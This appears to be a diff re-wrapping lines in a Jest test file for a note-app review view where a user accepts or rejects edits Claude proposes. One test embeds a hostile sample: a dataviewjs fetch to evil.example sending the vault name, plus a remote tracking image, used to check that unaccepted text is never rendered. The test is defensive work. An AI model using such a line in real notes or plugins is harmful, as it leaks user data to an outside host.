@@ -84,7 +84,11 @@ describe("DiffReviewView", () => {
 	});
 
 	it("the decision bar names the proposer (client, session, tool), the note once and the time, and counts the changes", () => {
-		const { root, one } = openView({ ...review, since: new Date("2026-11-27T09:05:00Z"), proposedText: "# Title!\n\nThe quick red fox.\n" });
+		const { root, one } = openView({
+			...review,
+			since: new Date("2026-11-27T09:05:00Z"),
+			proposedText: "# Title!\n\nThe quick red fox.\n",
+		});
 		const bar = one("ccb-review-bar");
 		expect(one("ccb-review-proposer").text).toBe("claude-code");
 		expect(one("ccb-review-session").text).toBe("session 1");
@@ -115,7 +119,11 @@ describe("DiffReviewView", () => {
 		expect(one("ccb-review-summary").text).toBe("2 changes, 1 rejected");
 		expect(one("ccb-review-accept").text).toBe("Accept 1 of 2");
 		root.findAll("ccb-suggest-accept")[0]?.dispatch("click");
-		expect(root.findAll("ccb-suggest-change").map((change) => [...change.classes].filter((cls) => cls.startsWith("is-")))).toEqual([["is-rejected"], ["is-accepted"]]);
+		expect(
+			root
+				.findAll("ccb-suggest-change")
+				.map((change) => [...change.classes].filter((cls) => cls.startsWith("is-"))),
+		).toEqual([["is-rejected"], ["is-accepted"]]);
 		one("ccb-review-accept").dispatch("click");
 		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify("# Title\n\nThe quick red fox.\n")}`]);
 	});
@@ -132,7 +140,11 @@ describe("DiffReviewView", () => {
 	it("folds long unchanged stretches into a button that shows them", () => {
 		const lines = Array.from({ length: 20 }, (_, index) => `Line ${index + 1}.`);
 		const before = `${lines.join("\n")}\n`;
-		const { root, one } = openView({ ...review, originalText: before, proposedText: before.replace("Line 10.", "Line ten.").replace("Line 20.", "Line twenty.") });
+		const { root, one } = openView({
+			...review,
+			originalText: before,
+			proposedText: before.replace("Line 10.", "Line ten.").replace("Line 20.", "Line twenty."),
+		});
 		expect(texts(root.findAll("ccb-suggest-fold"))).toEqual(["8 unchanged lines", "7 unchanged lines"]);
 		expect(root.textContent).not.toContain("Line 4.");
 		one("ccb-suggest-fold").dispatch("click");
@@ -156,7 +168,8 @@ describe("DiffReviewView", () => {
 
 	it("never hands unaccepted text to MarkdownRenderer (no plugin code blocks, no remote images)", () => {
 		const render = jest.spyOn(MarkdownRenderer, "render");
-		const hostile = "# Title\n\n```dataviewjs\nfetch('https://evil.example/?' + app.vault.getName())\n```\n\n![](https://evil.example/pixel.png)\n";
+		const hostile =
+			"# Title\n\n```dataviewjs\nfetch('https://evil.example/?' + app.vault.getName())\n```\n\n![](https://evil.example/pixel.png)\n";
 		const { root, one } = openView({ ...review, proposedText: hostile });
 		expect(root.textContent).toContain("![](https://evil.example/pixel.png)");
 		root.findAll("ccb-review-tab")[1]?.dispatch("click");
@@ -177,7 +190,10 @@ describe("DiffReviewView", () => {
 
 	it("says why when the review manager refuses the Accept (the note's folder was replaced meanwhile)", () => {
 		const { actions, one } = openView();
-		actions.acceptOutcome = { kind: "refused", reason: "Notes/note.md was not saved: its path now leads out of the vault" };
+		actions.acceptOutcome = {
+			kind: "refused",
+			reason: "Notes/note.md was not saved: its path now leads out of the vault",
+		};
 		notices.length = 0;
 		one("ccb-review-accept").dispatch("click");
 		expect(notices).toEqual(["Not accepted: Notes/note.md was not saved: its path now leads out of the vault."]);
@@ -193,9 +209,13 @@ describe("DiffReviewView", () => {
 		expect(one("ccb-review-accept").text).toBe("Accept with my edits");
 		expect(one("ccb-review-summary").text).toBe("1 change, edited by you");
 		one("ccb-review-edit").dispatch("click");
-		expect(texts(root.findAll("ccb-suggest-you")).filter((text) => text !== "You")).toEqual(expect.arrayContaining([" sat down"]));
+		expect(texts(root.findAll("ccb-suggest-you")).filter((text) => text !== "You")).toEqual(
+			expect.arrayContaining([" sat down"]),
+		);
 		expect(root.findAll("ccb-suggest-added").map((el) => el.textContent)).toContain("red");
-		expect(root.findAll("ccb-suggest-you").every((el) => !el.hasClass("ccb-suggest-added") || el.tag === "del")).toBe(true);
+		expect(
+			root.findAll("ccb-suggest-you").every((el) => !el.hasClass("ccb-suggest-added") || el.tag === "del"),
+		).toBe(true);
 		one("ccb-review-accept").dispatch("click");
 		expect(actions.calls).toEqual([`accept 1 ${JSON.stringify(edited)}`]);
 	});
@@ -225,10 +245,17 @@ describe("DiffReviewView", () => {
 	});
 
 	it("beside Reject, a reason for Claude when the proposer hears one: sent with the button, kept while deciding changes", () => {
-		const { root, one, actions } = openView({ ...review, proposer: { client: "Claude Code (agent panel)", tool: "Edit" }, takesRejectReason: true });
+		const { root, one, actions } = openView({
+			...review,
+			proposer: { client: "Claude Code (agent panel)", tool: "Edit" },
+			takesRejectReason: true,
+		});
 		const field = one("ccb-review-reason");
 		expect(field.tag).toBe("input");
-		expect([field.attributes.get("placeholder"), field.attributes.get("aria-label")]).toEqual(["Reason for Claude (optional)", "Reason for Claude, sent when you reject"]);
+		expect([field.attributes.get("placeholder"), field.attributes.get("aria-label")]).toEqual([
+			"Reason for Claude (optional)",
+			"Reason for Claude, sent when you reject",
+		]);
 		field.value = "  the fox stays brown ";
 		field.dispatch("input");
 		root.findAll("ccb-suggest-reject")[0]?.dispatch("click");
@@ -248,12 +275,17 @@ describe("DiffReviewView", () => {
 		const created = openView({ ...review, isNewFile: true, originalText: "" });
 		expect(created.root.textContent).toContain("This note does not exist yet: everything shown is new.");
 		const emptied = openView({ ...review, proposedText: "" });
-		expect(emptied.root.textContent).toContain("The proposal removes everything in this note. Accepting leaves the note empty.");
+		expect(emptied.root.textContent).toContain(
+			"The proposal removes everything in this note. Accepting leaves the note empty.",
+		);
 		expect(texts(emptied.root.findAll("ccb-suggest-removed"))).toEqual([review.originalText]);
 	});
 
 	it("a proposal that cannot be applied shows why and offers only Reject", () => {
-		const { root, one } = openView({ ...review, cannotApply: "A note the vault tools cannot show is already at this path." });
+		const { root, one } = openView({
+			...review,
+			cannotApply: "A note the vault tools cannot show is already at this path.",
+		});
 		expect(one("ccb-review-cannot-apply").text).toBe("A note the vault tools cannot show is already at this path.");
 		expect(root.findAll("ccb-review-accept")).toEqual([]);
 		expect(root.findAll("ccb-review-edit")).toEqual([]);
@@ -266,7 +298,9 @@ describe("DiffReviewView", () => {
 		await view.onOpen();
 		expect(view.tabName).toBe("old tab");
 		expect(view.getDisplayText()).toBe("Review: plan.md");
-		expect((view.contentEl as unknown as FakeElement).textContent).toContain("This review is no longer waiting for a decision.");
+		expect((view.contentEl as unknown as FakeElement).textContent).toContain(
+			"This review is no longer waiting for a decision.",
+		);
 	});
 });
 
@@ -282,7 +316,11 @@ describe("DiffReviewView while the user edits the note under review", () => {
 		const { app } = built;
 		app.viewRegistry.set(DIFF_VIEW_TYPE, (leaf) => new DiffReviewView(leaf as unknown as RealLeaf) as never);
 		const leaf = app.workspace.getLeaf("tab");
-		await leaf.setViewState({ type: DIFF_VIEW_TYPE, active: true, state: { tabName: review.tabName, path: notePath } });
+		await leaf.setViewState({
+			type: DIFF_VIEW_TYPE,
+			active: true,
+			state: { tabName: review.tabName, path: notePath },
+		});
 		const view = leaf.view;
 		if (!(view instanceof DiffReviewView)) throw new Error("no review view");
 		const actions = new RecordingActions();
@@ -302,7 +340,9 @@ describe("DiffReviewView while the user edits the note under review", () => {
 		note.type("# Title\n\nThe quick brown fox.\nMy new line.\n");
 		await settle(app);
 		expect(one("ccb-review-accept").attributes.has("disabled")).toBe(true);
-		expect(one("ccb-review-hold").textContent).toContain("Accept is off: the note changed after Claude proposed this edit.");
+		expect(one("ccb-review-hold").textContent).toContain(
+			"Accept is off: the note changed after Claude proposed this edit.",
+		);
 		notices.length = 0;
 		one("ccb-review-accept").dispatch("click");
 		app.pressKey(["Mod"], "Enter");
